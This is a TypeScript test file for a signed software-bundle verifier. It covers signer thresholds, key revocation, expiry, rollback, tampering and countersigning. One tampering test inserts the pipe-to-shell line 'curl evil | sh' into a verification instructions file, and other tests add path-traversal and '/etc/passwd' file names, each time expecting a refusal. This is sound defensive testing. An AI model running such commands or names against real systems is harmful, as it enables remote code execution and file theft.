import { describe, expect, test } from "vitest";
import { hex } from "../../../shared/bundle/bytes.ts";
import { writeCarrier, readCarrier, readSignatures } from "../../../shared/bundle/carrier.ts";
import { addSignature, openBundle, prepareBundle, STEPS, verifyBundle, writeBundle, type Trust, type Verification } from "../../../shared/bundle/index.ts";
import { canonicalJson } from "../../../shared/bundle/jcs.ts";
import { writePayload } from "../../../shared/bundle/payload.ts";
import { readTar, writeTar, type TarFile } from "../../../shared/bundle/tar.ts";
import { crypto, FILES, makeBundle, optionsWith, TERMS, testKey, TRUST } from "../../support/bundles.ts";

const verify = (bytes: Uint8Array, options: Parameters<typeof optionsWith>[0] = {}): Verification => verifyBundle(bytes, optionsWith(options));

/** `step: code` of the step that refused, or "accepted". */
function outcome({ steps, bundle }: Verification): string {
  const failed = steps.filter((step) => step.outcome === "failed");
  expect(failed.length).toBe(bundle ? 0 : 1);
  expect(steps.map(({ id }) => id)).toEqual(Object.keys(STEPS));
  const place = steps.findIndex((step) => step.outcome === "failed");
  if (place >= 0) expect(steps.slice(place + 1).every((step) => step.outcome === "unreached" && step.reason === "")).toBe(true);
  return failed[0] ? `${failed[0].id}: ${failed[0].refusal?.code}` : "accepted";
}

/** The bundle's files, changed and put together again as if nothing had happened. */
function repacked(bundle: Uint8Array, change: (files: TarFile[]) => TarFile[]): Uint8Array {
  const tar = readTar(bundle, { what: "", files: 99, isName: () => true });
  if (!tar.ok) throw new Error(tar.refusal.message);
  return writeTar(change(tar.value));
}

const text = (data: Uint8Array): string => new TextDecoder().decode(data);
const bytes = (value: string): Uint8Array => new TextEncoder().encode(value);
const edit = (pattern: RegExp, change: (value: string) => string) => (files: TarFile[]) =>
  files.map((file) => (pattern.test(file.name) ? { ...file, data: bytes(change(text(file.data))) } : file));

/** A bundle whose statement is `json`, properly signed. */
function signedAs(json: (statement: Record<string, unknown>) => Uint8Array | undefined, signers = ["ada", "grace"]): Uint8Array {
  const prepared = prepareBundle(FILES, TERMS, crypto);
  if (!prepared.ok) throw new Error(prepared.refusal.message);
  const statement = json(JSON.parse(text(prepared.value.statement)) as Record<string, unknown>) ?? new Uint8Array();
  return writeBundle({ ...prepared.value, statement }, signers.map((name) => testKey(name).signStatement(statement)));
}

const trustWith = (change: Partial<Trust["keys"][number]>, person = "grace"): Trust => ({ ...TRUST, keys: TRUST.keys.map((key) => (key.person === person ? { ...key, ...change } : key)) });

describe("a good bundle", () => {
  test("is accepted, every step with what it found", () => {
    const verification = verify(makeBundle());
    expect(outcome(verification)).toBe("accepted");
    expect(verification.steps.every((step) => step.outcome === "passed" && step.reason !== "")).toBe(true);
    expect(verification.bundle?.statement.predicate).toEqual(TERMS);
    expect(verification.bundle?.files.map(({ name, mediaType, data }) => [name, mediaType, text(data)])).toEqual(
      FILES.map(({ name, mediaType, data }) => [name, mediaType, text(data)]).toSorted(),
    );
    expect(verification.signers.map(({ person, state }) => [person, state]).toSorted()).toEqual([["ada", "good"], ["grace", "good"]]);
  });

  test("has the same bytes in whatever order files and signers are given", () => {
    const other = makeBundle({ files: FILES.toReversed(), signers: ["grace", "ada"] });
    expect(hex(other)).toBe(hex(makeBundle()));
  });

  test("says what could not be checked", () => {
    const verification = verify(makeBundle(), { memory: undefined, place: undefined, trust: { ...TRUST, version: undefined } });
    expect(outcome(verification)).toBe("accepted");
    expect(verification.steps.filter((step) => step.outcome === "unchecked").map(({ id }) => id)).toEqual(["audience", "trust", "version"]);
  });

  test("may be signed by further persons who are not known here", () => {
    const verification = verify(makeBundle({ signers: ["ada", "grace", "mallory"] }));
    expect(outcome(verification)).toBe("accepted");
    expect(verification.signers.filter(({ state }) => state === "unknown").length).toBe(1);
  });

  test("may be empty", () => expect(outcome(verify(makeBundle({ files: [] })))).toBe("accepted"));
});

describe("signers", () => {
  test.each<[what: string, signers: string[], trust: Trust, expected: string]>([
    ["one of two", ["ada"], TRUST, "threshold: signers-too-few"],
    ["one, and one who is unknown", ["ada", "mallory"], TRUST, "threshold: signers-too-few"],
    ["nobody who is known", ["mallory"], TRUST, "threshold: signers-too-few"],
    ["nobody", [], TRUST, "signatureFiles: signature-missing"],
    ["where nobody is trusted", ["ada", "grace"], { keys: [], threshold: 1 }, "threshold: nobody-trusted"],
    ["three of three", ["ada", "grace", "edsger"], { ...TRUST, threshold: 3 }, "accepted"],
    ["two keys of one person", ["ada", "grace"], trustWith({ person: "ada" }), "threshold: signers-too-few"],
    ["a revoked key", ["ada", "grace"], trustWith({ revokedAt: "2026-11-30T00:00:00Z" }), "keys: key-revoked"],
    ["a revoked key besides enough others", ["ada", "grace", "edsger"], trustWith({ revokedAt: "2026-11-30T00:00:00Z" }), "accepted"],
    ["a key that is not yet valid", ["ada", "grace"], trustWith({ validFrom: "2026-11-24T00:00:01Z" }), "keys: key-not-valid"],
    ["a key that is no longer valid", ["ada", "grace"], trustWith({ validUntil: "2026-11-23T23:59:59Z" }), "keys: key-not-valid"],
    ["a key with a broken date", ["ada", "grace"], trustWith({ validUntil: "soon" }), "keys: key-not-valid"],
    ["a key in its time", ["ada", "grace"], trustWith({ validFrom: "2026-11-24T00:00:00Z", validUntil: "2026-11-24T00:00:00Z" }), "accepted"],
  ])("%s", (_what, signers, trust, expected) => expect(outcome(verify(makeBundle({ signers }), { trust }))).toBe(expected));

  test("where no trust list is pinned, that is what is said, and what to do first", () => {
    const refusal = verify(makeBundle(), { trust: { keys: [], threshold: 1 } }).steps.find(({ outcome: found }) => found === "failed")?.refusal;
    expect(refusal?.message).toBe("No trust list is pinned here, so nobody is known whose signature on a bundle would count.");
    expect(refusal?.remedy).toMatch(/^Pin a trust list first/);
  });

  test("a threshold below one is a bug of the caller", () => {
    expect(() => verify(makeBundle(), { trust: { ...TRUST, threshold: 0 } })).toThrow(RangeError);
  });

  test("a threshold or a key inside the file changes nothing", () => {
    const bundle = signedAs((statement) => canonicalJson({ ...statement, predicate: { ...TERMS, threshold: 1 } }), ["ada"]);
    expect(outcome(verify(bundle))).toBe("threshold: signers-too-few");
    expect(outcome(verify(bundle, { trust: { ...TRUST, threshold: 1 } }))).toBe("kind: statement-form");
  });

  test("a signature of another statement under a known name is refused, however many others are good", () => {
    const other = makeBundle({ terms: { version: 8 }, signers: ["edsger"] });
    const stranger = readCarrier(other);
    const signature = stranger.ok ? readSignatures(stranger.value.signatures) : stranger;
    const open = openBundle(makeBundle(), crypto);
    if (!signature.ok || !open.ok) throw new Error("unreadable");
    const forged = writeCarrier({ ...open.value, signatures: [...open.value.signatures, ...signature.value.map((one) => ({ ...one, payload: open.value.statement }))] });
    expect(outcome(verify(forged))).toBe("signatures: signature-wrong");
  });
});

describe("terms", () => {
  const remembered = (version: number, statementSha256 = "00".repeat(32)) => ({ bundles: new Map([[TERMS.bundleId, { version, statementSha256 }]]) });
  const own = verify(makeBundle()).bundle?.statementSha256 ?? "";

  test.each<[what: string, options: Parameters<typeof optionsWith>[0], expected: string]>([
    ["for another place", { place: "site-b" }, "audience: audience"],
    ["for a newer program", { release: "0.0.9" }, "verifier: verifier-old"],
    ["under a newer trust list", { trust: { ...TRUST, version: 2 } }, "trust: trust-old"],
    ["five minutes early", { now: "2026-11-23T23:55:00Z" }, "accepted"],
    ["from the future", { now: "2026-11-23T23:54:59Z" }, "issued: issued-later"],
    ["in its last second", { now: "2027-02-23T23:59:59Z" }, "accepted"],
    ["expired (freeze)", { now: "2027-02-24T00:00:00Z" }, "expiry: expired"],
    ["expired, the clock set back", { memory: { bundles: new Map(), lastTrustedTime: "2027-03-01T00:00:00Z" } }, "expiry: clock-set-back"],
    ["rolled back", { memory: remembered(8) }, "version: rolled-back"],
    ["accepted before", { memory: remembered(7, own) }, "accepted"],
    ["another under the same version (equivocation)", { memory: remembered(7) }, "version: version-twice"],
    ["the next", { memory: remembered(6, "ab".repeat(32)) }, "accepted"],
    ["the next of another line", { memory: remembered(6) }, "version: version-fork"],
    ["after a gap", { memory: remembered(3) }, "accepted"],
    ["after fast-forward, once the count was forgotten", { memory: { bundles: new Map() } }, "accepted"],
    ["of another bundle", { memory: { bundles: new Map([["other", { version: 99, statementSha256: "" }]]) } }, "accepted"],
  ])("%s", (_what, options, expected) => expect(outcome(verify(makeBundle(), options))).toBe(expected));

  test("a newer program is no older one: versions are compared by number", () => {
    expect(outcome(verify(makeBundle({ terms: { minVerifier: "0.9.0" } }), { release: "0.10.0" }))).toBe("accepted");
  });

  test("an audience of none is any", () => expect(outcome(verify(makeBundle({ terms: { audience: [] } }), { place: "anywhere" }))).toBe("accepted"));

  test.each([
    [{ expires: "2026-11-24T00:00:00Z" }], [{ issuedAt: "2026-11-24T00:00:00.000Z" }], [{ issuedAt: "2026-11-31T00:00:00Z" }], [{ issuedAt: "2026-11-24T00:00:00+00:00" }],
    [{ version: 0 }], [{ version: 1.5 }], [{ version: 6 }], [{ version: 2 ** 53 }], [{ bundleId: "x" }], [{ minVerifier: "1.0" }], [{ trustVersion: -1 }],
  ])("cannot be %j", (terms) => expect(prepareBundle(FILES, { ...TERMS, ...terms }, crypto).ok).toBe(false));
});

describe("a bundle that was tampered with", () => {
  const bundle = makeBundle();
  const other = makeBundle({ terms: { version: 8 } });
  const partOf = (tar: Uint8Array, name: string) => (files: TarFile[]): TarFile[] => {
    repacked(tar, (others) => ((files = files.map((file) => (file.name === name ? (others.find((one) => one.name === name) ?? file) : file))), others));
    return files;
  };

  test.each<[what: string, change: (files: TarFile[]) => TarFile[], expected: string]>([
    ["the payload of another", partOf(other, "payload.tar"), "digest: payload-digest"],
    ["the statement of another (mix and match)", partOf(other, "statement.json"), "sameStatement: statements-differ"],
    ["another text in VERIFY.txt", edit(/VERIFY/, (value) => value.replace("openssl", "curl evil | sh; openssl")), "carrier: part-changed"],
    ["no VERIFY.txt", (files) => files.filter(({ name }) => name !== "VERIFY.txt"), "carrier: part-missing"],
    ["no payload", (files) => files.filter(({ name }) => name !== "payload.tar"), "carrier: part-missing"],
    ["a part more", (files) => [...files, { name: "notes.txt", data: bytes("") }], "carrier: part-name"],
    ["a part that leads out", (files) => [...files, { name: "signatures/../x", data: bytes("") }], "carrier: part-name"],
    ["a statement with a line end", edit(/statement/, (value) => `${value}\n`), "sameStatement: statements-differ"],
    ["white space in a signature", edit(/^signatures/, (value) => `${value} `), "signatureFiles: signature-form"],
    ["a key twice in a signature", edit(/^signatures/, (value) => value.replace('{"mediaType"', '{"mediaType":"x","mediaType"')), "signatureFiles: signature-form"],
    ["an unknown field in a signature", edit(/^signatures/, (value) => value.replace('"sig":', '"cert":"","sig":')), "signatureFiles: signature-form"],
    ["a keyid", edit(/^signatures/, (value) => value.replace('"sig":', '"keyid":"ada","sig":')), "signatureFiles: signature-keyid"],
    ["an empty keyid", edit(/^signatures/, (value) => value.replace('"sig":', '"keyid":"","sig":')), "signatureFiles: signature-form"],
    ["two signatures in one", edit(/^signatures/, (value) => value.replace(/\[(\{"sig":"[^"]*"\})\]/, "[$1,$1]")), "signatureFiles: signature-count"],
    ["no signature in one", edit(/^signatures/, (value) => value.replace(/\[\{"sig":"[^"]*"\}\]/, "[]")), "signatureFiles: signature-count"],
    ["another version of the form", edit(/^signatures/, (value) => value.replace("v0.3", "v0.2")), "signatureFiles: signature-media-type"],
    ["a certificate in place of a key", edit(/^signatures/, (value) => value.replace(/"publicKey":\{[^}]*\}/, '"certificate":{"rawBytes":"AAAA"}')), "signatureFiles: signature-form"],
    ["another payload type", edit(/^signatures/, (value) => value.replace("vnd.in-toto", "x.in-toto")), "signatureFiles: signature-form"],
    ["no JSON", edit(/^signatures/, () => "no"), "signatureFiles: signature-form"],
    ["null for a signature", edit(/^signatures/, () => "null"), "signatureFiles: signature-form"],
    ["signatures under each other's names", (files) => swapped(files), "signatureFiles: signature-name"],
  ])("%s", (_what, change, expected) => expect(outcome(verify(repacked(bundle, change)))).toBe(expected));

  test.each<[what: string, statement: (own: Record<string, unknown>) => Uint8Array | undefined, expected: string]>([
    ["null", () => bytes("null"), "keys: statement-form"],
    ["no JSON", () => bytes("statement"), "canonical: statement-canonical"],
    ["a key twice", (own) => bytes(JSON.stringify(own).replace('"schema":1', '"schema":1,"schema":1')), "canonical: statement-canonical"],
    ["a line end", (own) => bytes(`${text(canonicalJson(own) ?? bytes(""))}\n`), "canonical: statement-canonical"],
    ["a field more", (own) => canonicalJson({ ...own, note: "" }), "kind: statement-form"],
    ["another kind of predicate", (own) => canonicalJson({ ...own, predicateType: "https://slsa.dev/provenance/v1" }), "kind: statement-kind"],
    ["another kind of statement", (own) => canonicalJson({ ...own, _type: "https://in-toto.io/Statement/v0.1" }), "kind: statement-kind"],
    ["two subjects", (own) => canonicalJson({ ...own, subject: [own["subject"], own["subject"]].flat() }), "digest: payload-digest"],
    ["a second digest", (own) => canonicalJson({ ...own, subject: [{ digest: { sha256: "00".repeat(32), sha512: "" }, name: "payload.tar" }] }), "digest: payload-digest"],
    ["another schema", (own) => canonicalJson({ ...own, predicate: { ...TERMS, schema: 2 } }), "kind: statement-form"],
    ["no time", (own) => canonicalJson({ ...own, predicate: { ...TERMS, issuedAt: "now" } }), "keys: statement-form"],
  ])("by those who may sign it: %s", (_what, statement, expected) => expect(outcome(verify(signedAs(statement)))).toBe(expected));

  /** A payload changed by someone who may sign. */
  function withPayload(change: (files: TarFile[]) => TarFile[]): Uint8Array {
    const payload = repacked(writePayload(FILES, TERMS, crypto), change);
    const digest = hex(crypto.sha256(payload));
    const signed = signedAs((own) => canonicalJson({ ...own, subject: [{ digest: { sha256: digest }, name: "payload.tar" }] }));
    return repacked(signed, (files) => files.map((file) => (file.name === "payload.tar" ? { ...file, data: payload } : file)));
  }

  test.each<[what: string, change: (files: TarFile[]) => TarFile[], expected: string]>([
    ["nothing", (files) => files, "accepted"],
    ["a file changed", edit(/shop/, () => '{"name":"evil"}'), "contents: manifest-differs"],
    ["a file more", (files) => [...files, { name: "evil.txt", data: bytes("") }], "contents: manifest-differs"],
    ["a file less", (files) => files.filter(({ name }) => name !== "readme.txt"), "contents: manifest-differs"],
    ["no list", (files) => files.filter(({ name }) => name !== "manifest.json"), "contents: part-missing"],
    ["a name in capitals", (files) => [...files, { name: "README.txt", data: bytes("") }], "contents: part-name"],
    ["a name that leads out", (files) => [...files, { name: "a/../b", data: bytes("") }], "contents: part-name"],
    ["a name from the root", (files) => [...files, { name: "/etc/passwd", data: bytes("") }], "contents: part-name"],
    ["the list of another version", edit(/manifest/, (value) => value.replace('"version":7', '"version":8')), "contents: manifest-differs"],
    ["a list with white space", edit(/manifest/, (value) => `${value} `), "contents: manifest-form"],
    ["a list with a field more", edit(/manifest/, (value) => value.replace('"schema":1', '"schema":1,"threshold":1')), "contents: manifest-form"],
  ])("in the contents, by those who may sign: %s", (_what, change, expected) => expect(outcome(verify(withPayload(change)))).toBe(expected));
});

function swapped(files: TarFile[]): TarFile[] {
  const signatures = files.filter(({ name }) => name.startsWith("signatures/"));
  const names = signatures.map(({ name }) => name).toReversed();
  return [...files.filter((file) => !signatures.includes(file)), ...signatures.map(({ data }, index) => ({ name: names[index] ?? "", data }))];
}

describe("countersigning", () => {
  const open = (bundle: Uint8Array) => {
    const opened = openBundle(bundle, crypto);
    if (!opened.ok) throw new Error(opened.refusal.message);
    return opened.value;
  };
  const sign = (bundle: Uint8Array, name: string) => addSignature(open(bundle), testKey(name).signStatement(open(bundle).statement), testKey(name).publicKey.spki, crypto);

  test("adds a signature and changes nothing else, in any order", () => {
    const [first, second] = [sign(makeBundle({ signers: ["ada"] }), "grace"), sign(makeBundle({ signers: ["grace"] }), "ada")];
    expect(first.ok && hex(first.value)).toBe(hex(makeBundle()));
    expect(second.ok && hex(second.value)).toBe(hex(makeBundle()));
  });

  test("a second time by the same key changes nothing", () => {
    const again = sign(makeBundle(), "ada");
    expect(again.ok && hex(again.value)).toBe(hex(makeBundle()));
  });

  test("may begin with a bundle that nobody has signed", () => {
    const first = sign(makeBundle({ signers: [] }), "ada");
    expect(first.ok && hex(first.value)).toBe(hex(makeBundle({ signers: ["ada"] })));
  });

  test("is not offered for what is no bundle", () => {
    const code = (bundle: Uint8Array) => {
      const opened = openBundle(bundle, crypto);
      return opened.ok ? "opened" : opened.refusal.code;
    };
    expect(code(makeBundle())).toBe("opened");
    expect(code(signedAs((own) => canonicalJson({ ...own, subject: [{ digest: { sha256: "00".repeat(32) }, name: "payload.tar" }] })))).toBe("payload-digest");
    expect(code(signedAs((own) => canonicalJson({ ...own, note: "" })))).toBe("statement-form");
    expect(code(signedAs((own) => bytes(JSON.stringify(own, null, 2))))).toBe("statement-kind");
    expect(code(signedAs((own) => canonicalJson({ ...own, predicate: { ...TERMS, version: 8 } })))).toBe("manifest-differs");
  });

  test("takes no signature of another key or statement", () => {
    const bundle = open(makeBundle({ signers: ["ada"] }));
    const good = testKey("grace").signStatement(bundle.statement);
    const code = (result: ReturnType<typeof addSignature>) => (result.ok ? "added" : result.refusal.code);
    expect(code(addSignature(bundle, good, testKey("ada").publicKey.spki, crypto))).toBe("signature-wrong");
    expect(code(addSignature(bundle, { ...good, signature: testKey("ada").signStatement(bundle.statement).signature }, testKey("grace").publicKey.spki, crypto))).toBe("signature-wrong");
    expect(code(addSignature(bundle, testKey("grace").signStatement(bytes("{}")), testKey("grace").publicKey.spki, crypto))).toBe("statements-differ");
  });
});
